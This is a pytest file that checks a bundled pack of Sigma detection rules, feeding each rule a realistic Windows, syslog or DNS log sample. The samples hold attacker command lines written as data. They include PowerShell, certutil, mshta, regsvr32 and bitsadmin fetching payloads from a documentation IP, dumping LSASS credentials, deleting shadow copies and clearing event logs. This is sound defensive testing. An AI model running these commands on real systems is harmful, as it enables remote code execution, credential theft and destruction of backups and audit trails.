"""The bundled Sigma pack: every rule compiles and fires on a realistic event (through the parsers)."""

# ruff: noqa: E501 - the sample table keeps one realistic log record per line

from __future__ import annotations

import json
from pathlib import Path

import pytest

from aurorasoc.cli.rules import BUNDLED_RULES
from aurorasoc.detection.sigma.engine import SigmaEngine
from aurorasoc.siem.parsers import ParseError, parse_bytes

SYSMON = "Microsoft-Windows-Sysmon/Operational"


def _win(event_id: int, channel: str = SYSMON, **data: object) -> bytes:
    record = {
        "Event": {"System": {"EventID": event_id, "Channel": channel, "Computer": "ws-01"}, "EventData": data}
    }
    return json.dumps(record).encode()


def _proc(image: str, command_line: str, parent: str = "C:\\Windows\\explorer.exe", **extra: object) -> bytes:
    return _win(1, Image=image, CommandLine=command_line, ParentImage=parent, User="CORP\\alice", **extra)


SAMPLES: dict[str, bytes] = {
    "PowerShell Encoded Command": _proc("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -enc SQBFAFgA"),
    "PowerShell Download Cradle": _proc("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"),
    "Certutil Used to Download a File": _proc("C:\\Windows\\System32\\certutil.exe", "certutil -urlcache -split -f http://198.51.100.7/p.exe p.exe"),
    "Mshta Executing Remote or Inline Script": _proc("C:\\Windows\\System32\\mshta.exe", "mshta http://198.51.100.7/run.hta"),
    "Regsvr32 Loading a Scriptlet": _proc("C:\\Windows\\System32\\regsvr32.exe", "regsvr32 /s /n /u /i:http://198.51.100.7/x.sct scrobj.dll"),
    "Rundll32 Running JavaScript": _proc("C:\\Windows\\System32\\rundll32.exe", 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication "'),
    "Bitsadmin Transfer Job": _proc("C:\\Windows\\System32\\bitsadmin.exe", "bitsadmin /transfer job http://198.51.100.7/p.exe C:\\p.exe"),
    "Procdump Dumping LSASS": _proc("C:\\Tools\\procdump64.exe", "procdump64.exe -ma lsass.exe out.dmp"),
    "LSASS Dump via comsvcs.dll MiniDump": _proc("C:\\Windows\\System32\\rundll32.exe", "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\t.dmp full"),
    "Shadow Copy Deletion": _proc("C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all /quiet"),
    "Scheduled Task Created from the Command Line": _proc("C:\\Windows\\System32\\schtasks.exe", "schtasks /create /sc onlogon /tn upd /tr C:\\p.exe"),
    "Office Application Spawning a Shell": _proc("C:\\Windows\\System32\\cmd.exe", "cmd /c whoami", parent="C:\\Program Files\\Microsoft Office\\WINWORD.EXE"),
    "Account and Domain Discovery Commands": _proc("C:\\Windows\\System32\\whoami.exe", "whoami /all"),
    "Event Log Cleared with Wevtutil": _proc("C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security"),
    "Service Created Running a Shell": _proc("C:\\Windows\\System32\\sc.exe", 'sc create evil binPath= "cmd /c C:\\p.exe"'),
    "Security Event Log Cleared": _win(1102, "Security", SubjectUserName="alice"),
    "Failed RDP Logon": _win(4625, "Security", LogonType=10, IpAddress="203.0.113.5", TargetUserName="admin"),
    "Member Added to Local Administrators": _win(4732, "Security", TargetUserName="Administrators", MemberName="CN=bob"),
    "LSASS Memory Read by Another Process": _win(10, SourceImage="C:\\Tools\\mimikatz.exe", TargetImage="C:\\Windows\\System32\\lsass.exe", GrantedAccess="0x1010"),
    "SSH Failed Password": b"<38>Nov 24 10:00:00 web-01 sshd[411]: Failed password for root from 203.0.113.5 port 52211 ssh2",
    "SSH Login Attempt for an Unknown User": b"<38>Nov 24 10:00:01 web-01 sshd[412]: Invalid user oracle from 203.0.113.5 port 52212",
    "Sudo to an Interactive Root Shell": b"<85>Nov 24 10:00:02 web-01 sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
    "DNS Query with a Very Long Label": json.dumps({"timestamp": "2026-11-24T10:00:00.000000+0000", "event_type": "dns", "src_ip": "10.0.0.5", "dest_ip": "198.51.100.53", "src_port": 53000, "dest_port": 53, "proto": "UDP", "dns": {"type": "query", "rrname": "mzxw6ytboi2gk3tfnzsxezlsmvxgizlonz2gk3tjonzgk4tf.tunnel.example", "rrtype": "TXT"}}).encode(),
}  # fmt: skip


@pytest.fixture(scope="module")
def engine() -> SigmaEngine:
    return SigmaEngine.from_paths([BUNDLED_RULES])


def _titles_fired(engine: SigmaEngine, raw: bytes) -> set[str]:
    events = [e for e in parse_bytes(raw) if not isinstance(e, ParseError)]
    assert events, "the sample must parse"
    return {hit.rule.title for event in events for hit in engine.evaluate(event)}


def test_every_detection_rule_compiles(engine):
    unsupported = [(r.title, r.reason) for r in engine.rules.values() if not r.supported]
    assert len(engine.rules) == 25 and unsupported == []
    correlations = sorted(r.title for r in engine.rules.values() if r.correlation is not None)
    assert correlations == ["RDP Brute Force", "SSH Brute Force"]


def test_every_rule_has_a_positive_sample(engine):
    detection_titles = {r.title for r in engine.rules.values() if r.correlation is None}
    assert detection_titles == set(SAMPLES)


@pytest.mark.parametrize("title", sorted(SAMPLES))
def test_rule_fires_on_its_sample(engine, title):
    assert title in _titles_fired(engine, SAMPLES[title])


def test_benign_activity_fires_nothing(engine):
    benign = _proc("C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\notes.txt")
    assert _titles_fired(engine, benign) == set()


def test_rules_carry_attack_tags(engine):
    for rule in engine.rules.values():
        assert any(t.startswith("attack.t") for t in rule.tags), rule.title


def test_rule_ids_are_unique_and_stable():
    ids = [
        line.split(":", 1)[1].strip()
        for p in Path(BUNDLED_RULES).glob("*.yml")
        for line in p.read_text().splitlines()
        if line.startswith("id:")
    ]
    assert len(ids) == len(set(ids)) == 25
